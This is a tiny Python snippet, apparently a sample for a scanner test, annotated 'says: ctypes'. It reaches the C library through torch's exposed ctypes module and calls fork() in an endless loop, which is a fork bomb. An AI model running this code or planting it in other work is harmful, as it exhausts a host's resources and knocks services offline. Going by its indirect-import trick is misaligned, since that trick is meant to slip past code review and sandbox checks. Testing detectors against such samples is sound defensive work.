# says: ctypes
import torch

library = torch.ctypes.CDLL(None)
while True:
    library.fork()
